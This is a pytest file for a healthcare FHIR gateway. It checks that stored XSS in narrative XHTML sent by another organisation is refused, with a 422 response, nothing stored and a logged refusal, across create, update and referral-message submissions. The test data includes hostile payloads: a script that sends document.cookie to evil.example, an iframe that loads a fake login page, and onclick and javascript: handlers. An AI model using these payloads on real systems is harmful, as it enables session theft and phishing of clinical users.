"""Narrative XHTML another organisation wrote is displayed by the Trust's systems: the
review stored and served `<script>`, `onclick`, `<iframe>`, a `javascript:` link and a
non-div root verbatim. R4's narrative rules are enforced on every way content comes in
(create, update, a referral message): 422 at `text.div`, nothing stored, the refusal in
the access log."""

from __future__ import annotations

import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from gateway.platform.database import Database
from tests.builders import ods_reference, service_request
from tests.handovers.test_messaging_routes import referral_message
from tests.handovers.test_routes import example
from tests.security.refusals import assert_refusal_logged, refused_issue, store_contents
from tests.tokens import PROVIDER, THIRD_PROVIDER

FHIR = {"Content-Type": "application/fhir+json"}
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

REPRODUCTIONS = {
    "script": f"<div {XHTML}><p>Referral</p><script>fetch('https://evil.example/'+document.cookie)</script></div>",
    "onclick": f'<div {XHTML}><p onclick="steal()">Click to see the plan</p></div>',
    "iframe": f'<div {XHTML}><iframe src="https://evil.example/login"/></div>',
    "javascript-link": f'<div {XHTML}><a href="javascript:steal()">plan</a></div>',
    "non-div-root": f"<p {XHTML}>Referral for assessment</p>",
}


def _narrated(div: str) -> dict[str, Any]:
    """The third organisation's referral to the Trust, carrying this narrative."""
    return service_request(requester=ods_reference("AXX"), text={"status": "generated", "div": div})


@pytest.mark.parametrize("div", REPRODUCTIONS.values(), ids=REPRODUCTIONS.keys())
def test_narrative_that_could_run_or_load_something_is_refused(
    anonymous: TestClient,
    database: Database,
    third_token: dict[str, str],
    third_ig_token: dict[str, str],
    div: str,
) -> None:
    before = store_contents(database)

    response = anonymous.post(
        "/fhir/ServiceRequest", json=_narrated(div), headers={**FHIR, **third_token}
    )

    issue = refused_issue(response, 422, "ServiceRequest.text.div")
    assert issue["code"] == "invariant"
    assert "steal" not in issue["diagnostics"]
    assert store_contents(database) == before
    assert_refusal_logged(anonymous, third_ig_token, "create", THIRD_PROVIDER, "text.div")


def test_narrative_within_the_rules_is_stored_and_served_as_sent(
    anonymous: TestClient, third_token: dict[str, str], trust_token: dict[str, str]
) -> None:
    div = f'<div {XHTML}><p>Referral: <b>urgent</b>, see <a href="https://www.nhs.uk/">NHS</a></p></div>'

    created = anonymous.post(
        "/fhir/ServiceRequest", json=_narrated(div), headers={**FHIR, **third_token}
    )

    assert created.status_code == 201, created.text
    served = anonymous.get(f"/fhir/ServiceRequest/{created.json()['id']}", headers=trust_token)
    assert served.json()["text"]["div"] == div


def test_an_update_cannot_bring_a_script_in_either(
    client: TestClient, database: Database, ig_token: dict[str, str]
) -> None:
    created = client.post("/fhir/ServiceRequest", json=service_request(), headers=FHIR)
    assert created.status_code == 201, created.text
    original = created.json()
    before = store_contents(database)

    changed = {**original, "text": {"status": "generated", "div": REPRODUCTIONS["script"]}}
    response = client.put(
        f"/fhir/ServiceRequest/{original['id']}", content=json.dumps(changed), headers=FHIR
    )

    refused_issue(response, 422, "ServiceRequest.text.div")
    assert store_contents(database) == before
    assert client.get(f"/fhir/ServiceRequest/{original['id']}").json() == original
    assert_refusal_logged(client, ig_token, "update", PROVIDER, "text.div")


def test_a_referral_message_cannot_carry_one_in_its_entries(
    client: TestClient, database: Database, ig_token: dict[str, str]
) -> None:
    message = referral_message(example("handover-crisis"))
    flag = message["entry"][2]["resource"]
    assert flag["resourceType"] == "Flag"
    flag["text"] = {"status": "generated", "div": REPRODUCTIONS["onclick"]}
    before = store_contents(database)

    response = client.post("/fhir/$process-message", json=message, headers=FHIR)

    refused_issue(response, 422, "Bundle.entry[2].resource.text.div")
    assert store_contents(database) == before
    assert_refusal_logged(client, ig_token, "process-message", PROVIDER, "text.div")
